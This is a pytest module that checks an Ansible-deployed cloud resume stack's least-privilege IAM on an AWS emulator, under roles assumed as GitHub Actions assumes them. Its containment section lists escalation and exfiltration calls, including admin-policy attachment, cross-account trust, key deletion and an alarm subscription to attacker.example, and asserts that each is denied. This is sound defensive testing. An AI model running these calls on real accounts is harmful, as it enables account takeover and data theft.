"""The stack's lifecycle under the GitHub workflow roles' own credentials, with the emulator enforcing IAM.

An administrator (the inventories' unrestricted test credentials) applies playbooks/bootstrap.yml; the deploy and
check roles are then assumed as GitHub Actions does (AssumeRoleWithWebIdentity) and every playbook runs with those
temporary credentials. A real account evaluates every call against the roles' policies: each step must make no
call that IAM denies (the request log names the denied action and resource of each). The account also holds
another team's Lambda function, as real accounts do. No run writes IAM or KMS: the function's role and the alarm
topic's key are the bootstrap's, and the teardowns leave them.
"""
from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import boto3
import pytest
from botocore import UNSIGNED
from botocore.config import Config
from botocore.exceptions import ClientError

from emulator.iam.trust import unsigned_token

from .conftest import Emulator, PlaybookRun, emulator_fixture, run_playbook

REPO = "octo/resume"
DEPLOY, CHECK = "cloudresume-github-deploy", "cloudresume-github-check"
# The subjects GitHub puts in the OIDC token of a push to main and of a pull request (the roles' trust policies).
SUBJECTS = {DEPLOY: f"repo:{REPO}:ref:refs/heads/main", CHECK: f"repo:{REPO}:pull_request"}

emulator = emulator_fixture(enforce_iam=True)


def assume(emulator: Emulator, role_name: str) -> dict[str, str]:
    """Temporary credentials of a workflow role, as the GitHub OIDC action obtains them (an unsigned call with
    GitHub's token; the emulator checks the provider and the role's trust policy, not the token's signature)."""
    role_arn = emulator.client("iam").get_role(RoleName=role_name)["Role"]["Arn"]
    token = unsigned_token({"iss": "https://token.actions.githubusercontent.com", "aud": "sts.amazonaws.com",
                            "sub": SUBJECTS[role_name]})
    sts = boto3.client("sts", endpoint_url=emulator.url, region_name="us-east-2",
                       config=Config(signature_version=UNSIGNED))
    credentials = sts.assume_role_with_web_identity(RoleArn=role_arn, RoleSessionName="github-actions",
                                                    WebIdentityToken=token)["Credentials"]
    return {"stack_aws_access_key": credentials["AccessKeyId"], "stack_aws_secret_key": credentials["SecretAccessKey"],
            "stack_aws_session_token": credentials["SessionToken"]}


def another_stacks_function(emulator: Emulator) -> None:
    """An account is rarely empty: another team's function, which the stack's roles must neither need nor read."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("report.py", "def handler(event, context):\n    return None\n")
    role = emulator.client("iam").create_role(RoleName="billing-report", AssumeRolePolicyDocument=json.dumps({
        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"},
                                                "Action": "sts:AssumeRole"}]}))["Role"]["Arn"]
    emulator.client("lambda").create_function(FunctionName="billing-report", Runtime="python3.13", Role=role,
                                              Handler="report.handler", Code={"ZipFile": archive.getvalue()},
                                              Environment={"Variables": {"DB_PASSWORD": "not-for-the-stack"}})


@pytest.fixture(scope="module")
def roles(emulator: Emulator) -> dict[str, dict[str, str]]:
    result = run_playbook(emulator, "playbooks/bootstrap.yml", extra_vars={"bootstrap_github_repository": REPO})
    assert result.returncode == 0, result.output[-4000:]
    another_stacks_function(emulator)
    return {"deploy": assume(emulator, DEPLOY), "check": assume(emulator, CHECK)}


def run_as(emulator: Emulator, credentials: dict[str, str], playbook: str, *args: str,
           extra_vars: dict[str, Any] | None = None) -> PlaybookRun:
    result = run_playbook(emulator, playbook, *args, extra_vars={**credentials, **(extra_vars or {})})
    evaluated = [c for c in result.calls if "evaluated" in c]
    assert evaluated and len(evaluated) == len(result.calls), "every call of the run is signed by the role"
    assert [c for c in result.mutating if c.startswith(("iam:", "kms:"))] == [], "the bootstrap owns IAM and KMS"
    print(f"\n{playbook} {' '.join(args)}: {len(result.calls)} calls, "
          f"{sum(c['evaluated'] for c in evaluated)} (action, resource) evaluations, denied: {result.denied}")
    return result


def test_check_mode_on_an_empty_account_under_the_check_role(emulator: Emulator, roles: dict) -> None:
    result = run_as(emulator, roles["check"], "site.yml", "--check", "--diff")
    assert result.denied == []
    assert result.returncode == 0, result.output[-3000:]
    assert result.mutating == []
    assert result.stats["changed"] >= 10, result.stats  # every layer's resources would be created
    assert emulator.client("dynamodb").list_tables()["TableNames"] == []


def test_deploy_on_an_empty_account(emulator: Emulator, roles: dict) -> None:
    result = run_as(emulator, roles["deploy"], "site.yml")
    assert result.denied == []
    assert result.returncode == 0, result.output[-3000:]


def test_rerun_changes_nothing(emulator: Emulator, roles: dict) -> None:
    result = run_as(emulator, roles["deploy"], "site.yml")
    assert result.denied == []
    assert result.returncode == 0 and result.stats["changed"] == 0, result.output[-3000:]


def test_check_mode_on_a_deployed_account_under_the_check_role(emulator: Emulator, roles: dict) -> None:
    result = run_as(emulator, roles["check"], "site.yml", "--check", "--diff")
    assert result.denied == []
    assert result.returncode == 0 and result.stats["changed"] == 0, result.output[-3000:]


def test_teardown_keeping_data(emulator: Emulator, roles: dict) -> None:
    result = run_as(emulator, roles["deploy"], "playbooks/teardown.yml")
    assert result.denied == []
    assert result.returncode == 0, result.output[-3000:]
    assert "playbooks/bootstrap.yml owns it" in result.output
    table = emulator.client("dynamodb").describe_table(TableName="cloudresume-visitors")["Table"]
    assert table["TableStatus"] == "ACTIVE"


def test_redeploy_after_the_teardown_reuses_what_the_bootstrap_owns(emulator: Emulator, roles: dict) -> None:
    result = run_as(emulator, roles["deploy"], "site.yml")
    assert result.denied == []
    assert result.returncode == 0, result.output[-3000:]


def test_reserved_concurrency_set_then_unset(emulator: Emulator, roles: dict) -> None:
    for extra in ({"counter_api_reserved_concurrency": 5}, {}):
        result = run_as(emulator, roles["deploy"], "site.yml", "--tags", "counter_api", extra_vars=extra)
        assert result.denied == []
        assert result.returncode == 0 and result.stats["changed"] >= 1, result.output[-3000:]


def test_restore_under_the_deploy_role(emulator: Emulator, roles: dict) -> None:
    result = run_as(emulator, roles["deploy"], "playbooks/restore.yml",
                    extra_vars={"restore_latest": "true", "restore_confirm": "cloudresume-visitors"})
    assert result.denied == []
    assert result.returncode == 0, result.output[-3000:]
    assert "dynamodb:RestoreTableToPointInTime" in result.mutating


def test_teardown_with_data(emulator: Emulator, roles: dict) -> None:
    result = run_as(emulator, roles["deploy"], "playbooks/teardown.yml", extra_vars={"stack_destroy_data": "true"})
    assert result.denied == []
    assert result.returncode == 0, result.output[-3000:]
    tables = emulator.client("dynamodb").list_tables()["TableNames"]
    assert "cloudresume-visitors" not in tables
    assert "playbooks/bootstrap.yml owns it" in result.output
    assert emulator.client("iam").get_role(RoleName="cloudresume-counter-us-east-2")["Role"]["Path"] == "/github-actions/"
    assert emulator.client("kms").describe_key(KeyId="alias/cloudresume-alarms")["KeyMetadata"]["KeyState"] == "Enabled"


# ---- containment: a compromised workflow step under the deploy role cannot escalate or reach other stacks -------
FOREIGN = "cloudresume-staging"  # another stack whose names share this stack's prefix
ADMIN_TRUST = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"},
                                                       "Action": "sts:AssumeRole"}]}
ADMIN_POLICY = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
CACHING_OPTIMIZED = "658327ea-f89d-4fab-a63d-7e88639e58f6"


def foreign_resources(emulator: Emulator) -> dict[str, str]:
    """What an attacker would go for, made by an administrator: another stack's resources and an untagged key."""
    admin = emulator.client
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("counter.py", "def handler(event, context):\n    return None\n")
    role = admin("iam").get_role(RoleName="billing-report")["Role"]["Arn"]
    admin("lambda").create_function(FunctionName=f"{FOREIGN}-counter", Runtime="python3.13", Role=role,
                                    Handler="counter.handler", Code={"ZipFile": archive.getvalue()})
    admin("dynamodb").create_table(TableName=f"{FOREIGN}-visitors", BillingMode="PAY_PER_REQUEST",
                                   KeySchema=[{"AttributeName": "counter_id", "KeyType": "HASH"}],
                                   AttributeDefinitions=[{"AttributeName": "counter_id", "AttributeType": "S"}])
    admin("s3").create_bucket(Bucket=f"{FOREIGN}-site", CreateBucketConfiguration={"LocationConstraint": "us-east-2"})
    admin("logs").create_log_group(logGroupName=f"/aws/lambda/{FOREIGN}-counter")
    admin("cloudwatch").put_dashboard(DashboardName=FOREIGN, DashboardBody='{"widgets": []}')
    admin("cloudwatch").put_metric_alarm(AlarmName=f"{FOREIGN}-lambda-errors", MetricName="Errors", Namespace="AWS/Lambda",
                                         Statistic="Sum", Period=300, EvaluationPeriods=1, Threshold=5,
                                         ComparisonOperator="GreaterThanThreshold")
    topic = admin("sns").create_topic(Name="cloudresume-alarms")["TopicArn"]
    key = admin("kms").create_key(Description="another team's key")["KeyMetadata"]["Arn"]
    api = admin("apigatewayv2").create_api(Name=f"{FOREIGN}-api", ProtocolType="HTTP", Tags={"Stack": FOREIGN})["ApiId"]
    cloudfront = admin("cloudfront")
    oac = cloudfront.create_origin_access_control(OriginAccessControlConfig={
        "Name": f"{FOREIGN}-oac", "SigningProtocol": "sigv4", "SigningBehavior": "always",
        "OriginAccessControlOriginType": "s3"})["OriginAccessControl"]["Id"]
    distribution = cloudfront.create_distribution_with_tags(DistributionConfigWithTags={"DistributionConfig": {
        "CallerReference": f"{FOREIGN}-site", "Comment": f"{FOREIGN} site", "Enabled": True,
        "Origins": {"Quantity": 1, "Items": [{"Id": "s3", "DomainName": f"{FOREIGN}-site.s3.us-east-2.amazonaws.com",
                                              "OriginAccessControlId": oac, "S3OriginConfig": {"OriginAccessIdentity": ""}}]},
        "DefaultCacheBehavior": {"TargetOriginId": "s3", "ViewerProtocolPolicy": "redirect-to-https",
                                 "CachePolicyId": CACHING_OPTIMIZED}},
        "Tags": {"Items": [{"Key": "Stack", "Value": FOREIGN}]}})["Distribution"]
    return {"topic": topic, "key": key, "api": api, "distribution": distribution["Id"],
            "distribution_arn": distribution["ARN"], "function_role": "cloudresume-counter-us-east-2"}


def zipped() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("x.py", "def handler(event, context):\n    return 'owned'\n")
    return archive.getvalue()


ATTACKS = {
    "create a role trusting another account": lambda c, r: c("iam").create_role(
        RoleName="cloudresume-x", AssumeRolePolicyDocument=json.dumps(ADMIN_TRUST)),
    "put an admin policy on the function's role": lambda c, r: c("iam").put_role_policy(
        RoleName=r["function_role"], PolicyName="admin", PolicyDocument=json.dumps(ADMIN_POLICY)),
    "attach AdministratorAccess to the function's role": lambda c, r: c("iam").attach_role_policy(
        RoleName=r["function_role"], PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"),
    "trust another account from the function's role": lambda c, r: c("iam").update_assume_role_policy(
        RoleName=r["function_role"], PolicyDocument=json.dumps(ADMIN_TRUST)),
    "pass another role to a new function": lambda c, r: c("lambda").create_function(
        FunctionName="cloudresume-counter", Runtime="python3.13", Handler="x.handler", Code={"ZipFile": zipped()},
        Role="arn:aws:iam::123456789012:role/billing-report"),
    "tag a foreign key as the stack's": lambda c, r: c("kms").tag_resource(
        KeyId=r["key"], Tags=[{"TagKey": "Stack", "TagValue": "cloudresume"}]),
    "schedule a foreign key's deletion": lambda c, r: c("kms").schedule_key_deletion(KeyId=r["key"]),
    "schedule the stack's own key's deletion": lambda c, r: c("kms").schedule_key_deletion(KeyId="alias/cloudresume-alarms"),
    "create a key": lambda c, r: c("kms").create_key(Tags=[{"TagKey": "Stack", "TagValue": "cloudresume"}]),
    "tag a foreign distribution as the stack's": lambda c, r: c("cloudfront").tag_resource(
        Resource=r["distribution_arn"], Tags={"Items": [{"Key": "Stack", "Value": "cloudresume"}]}),
    "read a foreign distribution's configuration": lambda c, r: c("cloudfront").get_distribution_config(
        Id=r["distribution"]),
    "delete a foreign distribution": lambda c, r: c("cloudfront").delete_distribution(Id=r["distribution"], IfMatch="x"),
    "tag a foreign HTTP API as the stack's": lambda c, r: c("apigatewayv2").tag_resource(
        ResourceArn=f"arn:aws:apigateway:us-east-2::/apis/{r['api']}", Tags={"Stack": "cloudresume"}),
    "rename a foreign HTTP API": lambda c, r: c("apigatewayv2").update_api(ApiId=r["api"], Name="x"),
    "delete a foreign HTTP API": lambda c, r: c("apigatewayv2").delete_api(ApiId=r["api"]),
    "replace a foreign function's code": lambda c, r: c("lambda").update_function_code(
        FunctionName=f"{FOREIGN}-counter", ZipFile=zipped()),
    "read a foreign function's environment": lambda c, r: c("lambda").get_function_configuration(
        FunctionName=f"{FOREIGN}-counter"),
    "delete a foreign table": lambda c, r: c("dynamodb").delete_table(TableName=f"{FOREIGN}-visitors"),
    "read a foreign table": lambda c, r: c("dynamodb").scan(TableName=f"{FOREIGN}-visitors"),
    "write a foreign table": lambda c, r: c("dynamodb").put_item(
        TableName=f"{FOREIGN}-visitors", Item={"counter_id": {"S": "visitors"}, "count": {"N": "0"}}),
    "copy the stack's table out by a restore": lambda c, r: c("dynamodb").restore_table_to_point_in_time(
        SourceTableName="cloudresume-visitors", TargetTableName="attacker", UseLatestRestorableTime=True),
    "subscribe an outside endpoint to the alarms": lambda c, r: c("sns").subscribe(
        TopicArn=r["topic"], Protocol="https", Endpoint="https://attacker.example"),
    "open a foreign bucket": lambda c, r: c("s3").put_bucket_policy(Bucket=f"{FOREIGN}-site", Policy=json.dumps({
        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
                                                "Resource": f"arn:aws:s3:::{FOREIGN}-site/*"}]})),
    "delete a foreign alarm": lambda c, r: c("cloudwatch").delete_alarms(AlarmNames=[f"{FOREIGN}-lambda-errors"]),
    "delete a foreign dashboard": lambda c, r: c("cloudwatch").delete_dashboards(DashboardNames=[FOREIGN]),
    "delete a foreign log group": lambda c, r: c("logs").delete_log_group(logGroupName=f"/aws/lambda/{FOREIGN}-counter"),
}


@pytest.fixture(scope="module")
def targets(emulator: Emulator, roles: dict) -> dict[str, str]:
    return foreign_resources(emulator)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_deploy_role_cannot(emulator: Emulator, roles: dict, targets: dict, attack: str) -> None:
    credentials = roles["deploy"]

    def client(service: str) -> Any:
        return boto3.client(service, endpoint_url=emulator.url, region_name="us-east-2",
                            aws_access_key_id=credentials["stack_aws_access_key"],
                            aws_secret_access_key=credentials["stack_aws_secret_key"],
                            aws_session_token=credentials["stack_aws_session_token"],
                            config=Config(retries={"max_attempts": 1}))

    with pytest.raises(ClientError) as denied:
        ATTACKS[attack](client, targets)
    error = denied.value.response
    print(f"\n{attack}: {error['Error']['Code']} {error['Error'].get('Message', '')[:160]}")
    assert error["ResponseMetadata"]["HTTPStatusCode"] == 403
    assert error["Error"]["Code"] in ("AccessDenied", "AccessDeniedException")
